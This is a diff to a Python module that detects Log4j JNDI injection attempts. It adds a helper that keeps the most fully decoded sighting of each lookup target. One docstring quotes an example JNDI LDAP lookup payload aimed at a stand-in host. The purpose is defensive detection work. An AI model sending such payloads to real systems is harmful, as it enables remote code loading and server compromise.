@@ -7,7 +7,7 @@ from collections.abc import Iterable
 from dataclasses import replace
 
 from detectors import commons_text, iocs
-from detectors.decoding import FORM, URL, Candidate, candidates
+from detectors.decoding import FORM, URL, Candidate, candidates, replay
 from detectors.interpreter import Evaluation, JndiCall, Limits, evaluate
 from detectors.model import (
     CVE_BYPASS,
@@ -83,12 +83,12 @@ def analyze(
                 inert = True
                 continue
             remote = True
-            found.setdefault((lookup.family, lookup.url), lookup)
+            _add(found, lookup)
         for bare in commons_text.lookups(text, candidate.decodings, limits):
             remote = True
             merged = {*bare.techniques, *_decoding_tags(candidate.decodings)}
             text_lookup = replace(bare, techniques=tuple(sorted(merged)))
-            found.setdefault((text_lookup.family, text_lookup.url), text_lookup)
+            _add(found, text_lookup)
         if not remote and _attack_shaped(text, evaluation):
             inert = True
             inert_tags |= (evaluation.techniques - _PER_CALL) | _decoding_tags(
@@ -134,6 +134,26 @@ def analyze_fields(
     return RecordVerdict(
         malicious, not malicious and bool(kept), tuple(kept), tuple(tags), limit_hit
     )
+
+
+def _add(found: dict[tuple[str, str], Lookup], lookup: Lookup) -> None:
+    """Keep one Lookup per target; a more decoded sighting replaces a less decoded one.
+
+    ``${jndi:ldap:\\/\\/example.com\\/a}`` in a JSON body reaches Log4j either as
+    written or JSON-decoded; both name the same target, and the decoded URL is the
+    one worth reporting.
+    """
+    key = (lookup.family, lookup.url)
+    if key in found:
+        return
+    depth = len(lookup.decodings)
+    for old_key, old in list(found.items()):
+        shallower = len(old.decodings) < depth
+        if shallower and lookup.decodings[: len(old.decodings)] == old.decodings:
+            extra = lookup.decodings[len(old.decodings) :]
+            if old.family == lookup.family and replay(old.url, extra) == lookup.url:
+                del found[old_key]
+    found[key] = lookup
 
 
 def _may_decode_to_lookup(value: str) -> bool:
